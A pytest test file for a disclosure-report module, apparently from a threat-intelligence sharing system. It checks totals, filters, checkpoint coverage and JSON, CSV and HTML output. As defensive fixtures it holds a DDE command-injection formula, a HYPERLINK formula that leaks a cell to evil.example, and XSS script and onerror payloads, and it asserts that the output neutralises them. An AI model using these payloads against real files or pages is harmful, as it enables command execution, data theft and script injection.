"""Disclosure reports: rows and totals from audit records, and the JSON, CSV and HTML forms."""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
import json
from collections import Counter
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exchange.audit.checkpoint import Checkpoint
from exchange.audit.query import RecordFilter
from exchange.audit.records import Disclosure, Entry, Kind, Record
from exchange.audit.report import (
    CSV_COLUMNS,
    REPORT_FORMAT,
    DisclosureReport,
    _csv_cell,
    build_report,
    render_csv,
    render_html,
    render_json,
)
from exchange.errors import InvalidInput
from exchange.storage.timestamps import from_micros
from tests.unit.audit.helpers import (
    ORIGIN,
    OTHER_DIGEST,
    T0,
    disclosed,
    disclosure,
    one_of_each,
)

NOW = T0 + 86_400_000_000
LEVELS = ("clear", "green", "amber", "amber+strict", "red")
PRODUCERS = (None, "org-uz", "org-kz", "org-tj", "=cmd|' /C calc'!A0")
ROOT = bytes(range(32))


def _batch(i: int, items: list[tuple[str | None, str]], *, recipient: str = "org-pk"
           ) -> Disclosure:
    """A disclosure record whose k-th entry has the k-th (producer, tlp)."""
    objects = tuple(
        disclosed(i * 1000 + k, producer=producer, tlp=tlp)
        for k, (producer, tlp) in enumerate(items)
    )
    return dataclasses.replace(disclosure(i, recipient=recipient), objects=objects)


def _entries(records: Sequence[Record]) -> list[Entry]:
    return [Entry(seq, record) for seq, record in enumerate(records)]


def _report(records: Sequence[Record], f: RecordFilter | None = None,
            checkpoint: Checkpoint | None = None) -> DisclosureReport:
    return build_report(_entries(records), f or RecordFilter(), checkpoint=checkpoint,
                        generated_at=NOW)


def _checkpoint(size: int) -> Checkpoint:
    return Checkpoint(origin=ORIGIN, size=size, root=ROOT)


# -- building --------------------------------------------------------------------------

_ITEM = st.tuples(st.sampled_from(PRODUCERS), st.sampled_from(LEVELS))
_BATCHES = st.lists(st.lists(_ITEM, min_size=1, max_size=8), max_size=12)


@settings(max_examples=150, deadline=None)
@given(batches=_BATCHES, others=st.integers(0, 3), producer=st.sampled_from(PRODUCERS[1:]))
def test_totals_equal_the_rows(batches: list[list[tuple[str | None, str]]], others: int,
                               producer: str) -> None:
    records: list[Record] = [_batch(i, items) for i, items in enumerate(batches)]
    noise = [r for r in one_of_each() if not isinstance(r, Disclosure)]
    records[0:0] = noise[:others]  # some records of other kinds first
    for f in (RecordFilter(), RecordFilter(producer_org=producer)):
        report = _report(records, f)

        # Counted here independently, from the inputs rather than from the rows.
        wanted = [
            (seq, p, tlp)
            for seq, items in enumerate(batches, start=others)
            for p, tlp in items
            if f.producer_org is None or p == f.producer_org
        ]
        assert report.total == len(report.rows) == len(wanted)
        assert [(r.seq, r.producer_org, r.tlp) for r in report.rows] == wanted
        tlps = Counter(tlp for _, _, tlp in wanted)
        assert dict(report.by_tlp) == {level: tlps[level] for level in LEVELS}
        assert list(report.by_tlp) == list(LEVELS)
        producers = Counter("(unknown)" if p is None else p for _, p, _ in wanted)
        assert dict(report.by_producer) == dict(producers)
        assert list(report.by_producer) == sorted(producers)
        rules = Counter(("sha256:" + "ab" * 32, f"tlp-{tlp}-community") for _, _, tlp in wanted)
        assert dict(report.by_rule) == dict(rules)
        seqs = {seq for seq, _, _ in wanted}
        assert report.records == len(seqs)
        assert report.first_seq == (min(seqs) if seqs else None)
        assert report.last_seq == (max(seqs) if seqs else None)


def test_producer_filter_narrows_entries_inside_a_mixed_batch() -> None:
    batch = _batch(1, [("org-uz", "green"), ("org-kz", "amber"), ("org-uz", "red"),
                       (None, "clear")])
    report = _report([batch], RecordFilter(producer_org="org-uz"))
    assert [row.producer_org for row in report.rows] == ["org-uz", "org-uz"]
    assert [row.object_id for row in report.rows] == [
        batch.objects[0].object_id, batch.objects[2].object_id]
    assert dict(report.by_producer) == {"org-uz": 2}
    assert report.by_tlp["amber"] == 0
    assert report.by_tlp["red"] == 1
    assert report.records == 1


def test_object_filter_selects_one_entry() -> None:
    batch = _batch(1, [("org-uz", "green")] * 3)
    target = batch.objects[1].object_id
    report = _report([batch], RecordFilter(object_id=target))
    assert [row.object_id for row in report.rows] == [target]


def test_non_disclosure_records_are_ignored() -> None:
    records = one_of_each()
    only = next(r for r in records if isinstance(r, Disclosure))
    report = _report(records)
    assert report.total == 1
    assert report.rows[0].seq == records.index(only)
    assert report.rows[0].object_id == only.objects[0].object_id
    others = [r for r in records if not isinstance(r, Disclosure)]
    assert _report(others).total == 0


def test_rows_keep_a_record_and_its_fields() -> None:
    record = disclosure(7, count=3)
    report = _report([record])
    assert [row.object_id for row in report.rows] == [o.object_id for o in record.objects]
    row = report.rows[0]
    item = record.objects[0]
    assert (row.time, row.channel, row.recipient_org, row.recipient_account) == (
        record.time, record.channel, record.recipient_org, record.recipient_account)
    assert (row.collection, row.policy_digest, row.request_id) == (
        record.collection, record.policy_digest, record.request_id)
    assert (row.object_version, row.object_digest, row.producer_org, row.tlp, row.rule) == (
        item.object_version, item.object_digest, item.producer_org, item.tlp, item.rule)


def test_rows_are_in_log_order_whatever_the_input_order() -> None:
    entries = [Entry(5, disclosure(5, count=2)), Entry(2, disclosure(2, count=3))]
    report = build_report(entries, RecordFilter(), checkpoint=None, generated_at=NOW)
    assert [row.seq for row in report.rows] == [2, 2, 2, 5, 5]
    assert [row.object_id for row in report.rows[:3]] == [
        o.object_id for o in entries[1].record.objects]  # type: ignore[union-attr]


def test_record_level_filter_is_applied() -> None:
    records: list[Record] = [
        disclosure(0, recipient="org-pk"),
        disclosure(1, recipient="org-kz"),
        dataclasses.replace(disclosure(2), policy_digest=OTHER_DIGEST),
        disclosure(3),
    ]
    assert [r.seq for r in _report(records, RecordFilter(recipient_org="org-pk")).rows] == [
        0, 2, 3]
    assert [r.seq for r in _report(records, RecordFilter(policy_digest=OTHER_DIGEST)).rows] == [
        2]
    # disclosure(i) is at T0 + i ms: since is inclusive, until exclusive.
    period = RecordFilter(since=T0 + 1_000, until=T0 + 3_000)
    report = _report(records, period)
    assert [r.seq for r in report.rows] == [1, 2]
    assert (report.since, report.until) == (T0 + 1_000, T0 + 3_000)
    assert _report(records, RecordFilter(kinds=(Kind.DENIAL,))).total == 0


def test_the_same_record_twice_is_refused() -> None:
    with pytest.raises(InvalidInput, match="twice"):
        build_report([Entry(3, disclosure(3)), Entry(3, disclosure(3))], RecordFilter(),
                     checkpoint=None, generated_at=NOW)


def test_covered_only_when_every_row_is_inside_the_checkpoint() -> None:
    records = [disclosure(i) for i in range(4)]
    assert _report(records, checkpoint=_checkpoint(4)).covered
    assert not _report(records, checkpoint=_checkpoint(3)).covered
    assert not _report(records, checkpoint=None).covered
    # A later record outside the checkpoint that the filter drops does not count.
    narrowed = _report(records, RecordFilter(until=T0 + 3_000), checkpoint=_checkpoint(3))
    assert narrowed.covered


def test_totals_cannot_be_passed_in() -> None:
    with pytest.raises(TypeError):
        DisclosureReport(  # type: ignore[call-arg]
            recipient=None, since=None, until=None, generated_at=NOW, checkpoint=None,
            rows=(), total=5,
        )


# -- JSON ------------------------------------------------------------------------------


def test_json_parses_back_with_totals_equal_to_the_disclosures() -> None:
    records: list[Record] = [
        _batch(0, [("org-uz", "green"), ("org-kz", "amber+strict"), (None, "red")]),
        *one_of_each(1),
        _batch(9, [("org-uz", "clear")]),
    ]
    f = RecordFilter(recipient_org="org-pk", since=T0, until=T0 + 10**9)
    text = render_json(_report(records, f, checkpoint=_checkpoint(50)))
    doc = json.loads(text)
    assert doc["format"] == REPORT_FORMAT
    assert doc["recipient"] == "org-pk"
    assert (doc["since"], doc["until"]) == (from_micros(T0), from_micros(T0 + 10**9))
    assert doc["generated_at"] == from_micros(NOW)
    assert doc["checkpoint"] == {"origin": ORIGIN, "size": 50,
                                 "root": base64.b64encode(ROOT).decode()}
    assert doc["covered"] is True
    rows = doc["disclosures"]
    totals = doc["totals"]
    assert totals["disclosures"] == len(rows) == 5
    assert sum(totals["by_tlp"].values()) == len(rows)
    assert totals["by_tlp"]["amber+strict"] == 1
    assert sum(totals["by_producer"].values()) == len(rows)
    assert totals["by_producer"]["(unknown)"] == 1
    assert sum(item["count"] for item in totals["by_rule"]) == len(rows)
    assert totals["records"] == len({row["seq"] for row in rows}) == 3
    first = rows[0]
    assert set(first) == set(CSV_COLUMNS)
    assert first["time"] == from_micros(records[0].time)
    assert first["object_version"] == from_micros(
        records[0].objects[0].object_version)  # type: ignore[union-attr]
    assert text == render_json(_report(records, f, checkpoint=_checkpoint(50)))


def test_json_without_checkpoint_or_period() -> None:
    doc = json.loads(render_json(_report([disclosure(0)])))
    assert doc["checkpoint"] is None
    assert doc["covered"] is False
    assert (doc["recipient"], doc["since"], doc["until"]) == (None, None, None)


# -- CSV -------------------------------------------------------------------------------


def test_csv_has_a_header_and_one_line_per_disclosure() -> None:
    noise = [r for r in one_of_each(1) if not isinstance(r, Disclosure)]
    records: list[Record] = [disclosure(0, count=3), *noise, disclosure(9, count=2)]
    text = render_csv(_report(records))
    assert text.endswith("\n")
    assert "\r" not in text
    lines = text.splitlines()
    assert len(lines) == 1 + 5
    table = list(csv.reader(io.StringIO(text)))
    assert tuple(table[0]) == CSV_COLUMNS
    assert [row[0] for row in table[1:]] == ["0", "0", "0", "5", "5"]


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("name", [EVIL, "+1+2", "-2+3", "@SUM(A1:A9)"])
def test_csv_neutralises_formulas(name: str) -> None:
    report = _report([_batch(0, [(name, "green"), ("org-uz", "green")])])
    table = list(csv.reader(io.StringIO(render_csv(report))))
    column = CSV_COLUMNS.index("producer_org")
    assert table[1][column] == "'" + name
    assert table[2][column] == "org-uz"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)


def test_csv_cell_quotes_tab_and_carriage_return() -> None:
    # Records refuse control characters, so these only reach the cell function directly.
    assert _csv_cell("\t=1") == "'\t=1"
    assert _csv_cell("\r=1") == "'\r=1"
    assert _csv_cell("org-uz") == "org-uz"
    assert _csv_cell(None) == ""
    assert _csv_cell(12) == "12"


# -- HTML ------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"


def test_html_escapes_member_values() -> None:
    record = _batch(0, [(SCRIPT, "green")], recipient='org-"pk"&<b>')
    record = dataclasses.replace(record, request_id="<img src=x onerror=alert(1)>")
    page = render_html(_report([record], checkpoint=_checkpoint(1)))
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<img" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<b>" not in page
    assert "org-&quot;pk&quot;&amp;&lt;b&gt;" in page


def test_html_recipient_in_title_is_escaped() -> None:
    f = RecordFilter(recipient_org="<i>pk</i>")
    page = render_html(_report([disclosure(0, recipient="<i>pk</i>")], f))
    assert "<title>Disclosures to &lt;i&gt;pk&lt;/i&gt;" in page
    assert "<i>" not in page


def test_html_warns_when_not_verified() -> None:
    page = render_html(_report([disclosure(0)], checkpoint=None))
    assert "NOT verified against a checkpoint" in page
    assert 'class="warning"' in page


def test_html_shows_the_checkpoint_when_verified() -> None:
    page = render_html(_report([disclosure(0)], checkpoint=_checkpoint(987_654)))
    assert "NOT verified" not in page
    assert "not covered" not in page
    assert "<dt>Size</dt><dd>987654 records</dd>" in page
    assert base64.b64encode(ROOT).decode() in page
    assert ORIGIN in page


def test_html_warns_when_not_covered() -> None:
    records = [disclosure(i) for i in range(5)]
    page = render_html(_report(records, checkpoint=_checkpoint(3)))
    assert "NOT verified" not in page
    assert "not covered by the checkpoint" in page
    assert "2 of the 5 disclosures" in page


def test_html_is_standalone_and_has_every_section() -> None:
    records: list[Record] = [
        _batch(0, [("org-uz", "amber+strict"), ("org-kz", "green")]),
        dataclasses.replace(disclosure(1), policy_digest=OTHER_DIGEST),
    ]
    f = RecordFilter(recipient_org="org-pk", since=T0, until=T0 + 10**9)
    page = render_html(_report(records, f))
    assert page.startswith("<!DOCTYPE html>")
    lowered = page.lower()
    for forbidden in ("<script", "<link", "src=", "href=", "@import", "url("):
        assert forbidden not in lowered
    for heading in ("Summary", "Verification", "Disclosures per TLP level",
                    "Disclosures per producer", "Disclosures per policy and rule"):
        assert f"<h2>{heading}</h2>" in page
    assert f"from {from_micros(T0)} to {from_micros(T0 + 10**9)}" in page
    assert "<dt>Disclosures</dt><dd>3</dd>" in page
    assert OTHER_DIGEST in page
    assert "TLP:AMBER+STRICT" in page
    red = '<td><span class="tlp tlp-red">TLP:RED</span></td><td class="n">0</td>'
    strict = ('<td><span class="tlp tlp-amber-strict">TLP:AMBER+STRICT</span></td>'
              '<td class="n">1</td>')
    assert red in page
    assert strict in page
    assert '<td>org-kz</td><td class="n">1</td>' in page
